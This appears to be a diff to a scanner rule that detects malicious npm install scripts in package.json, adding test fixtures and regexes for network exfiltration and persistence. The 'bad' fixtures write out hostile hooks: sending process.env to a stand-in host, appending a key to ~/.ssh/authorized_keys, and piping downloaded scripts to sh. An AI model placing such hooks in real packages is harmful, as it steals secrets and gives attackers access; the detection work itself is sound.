@@ -52,6 +52,12 @@ _FILE = "package.json"
     cvss=HIGH,
     owasp=("MCP04:2025", "LLM03:2025", "ASI04:2026"),
     bad=(
+        Example(
+            _package("postinstall", "node -e \"require('https').get('https://in.example.org/' + JSON.stringify(process.env))\""),
+            (2,),
+            _FILE,
+        ),
+        Example(_package("prepare", "echo key >> ~/.ssh/authorized_keys"), (2,), _FILE),
         Example(_package("postinstall", "curl -s https://get.example.org/p.sh | sh"), (2,), _FILE),
         Example(_package("preinstall", "node -e \"eval(Buffer.from('YQ==','base64').toString())\""), (2,), _FILE),
         Example(_package("install", "wget https://get.example.org/b -O b; chmod +x b; ./b"), (2,), _FILE),
@@ -82,6 +88,7 @@ _FILE = "package.json"
         ),
     ),
     good=(
+        Example(_package("prepare", "husky install && cat a >> CHANGELOG.md"), path=_FILE),
         Example(_package("prepare", "husky"), path=_FILE),
         Example(_package("postinstall", "node scripts/postinstall.js"), path=_FILE),
         Example(_package("prepare", "npm run build"), path=_FILE),
@@ -120,9 +127,25 @@ def check(launch: Launch, workspace: Workspace) -> Iterator[Match]:
                 span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}"
             )
             return
+    written = text.encode("utf-8", "replace")
+    if _ASKS.search(written) and _TELLS.search(written):
+        what = "asks the network and reads what tells of the machine or its user"
+        yield Match(
+            span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}"
+        )
+        return
+    if _STAYS.search(text):
+        what = "writes into what starts with the user's session, or lets somebody in"
+        yield Match(
+            span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}"
+        )
+        return
     yield from _of_file(launch, text, span, workspace)
 
 
+_STAYS = expression(
+    r">>?\s*[\"']?(?:~|\$\{?HOME\}?|/root|/home/\S{1,40})/(?:\.ssh/authorized_keys|\.(?:ba|z)shrc|\.(?:bash_)?profile|\.zprofile|\.config/autostart/)|\|\s*crontab\s+-|\bcrontab\s+-\s*<"
+)
 _NAMED = expression(
     r"(?:^|[;&|]\s*)(?:node|bun|deno run|tsx|ts-node)\s+(?:-\w+\s+|--[\w-]+\s+)*[\"']?(?P<file>(?:\./)?[\w./-]{1,120}?)[\"']?\s*(?:$|[;&|])"
 )
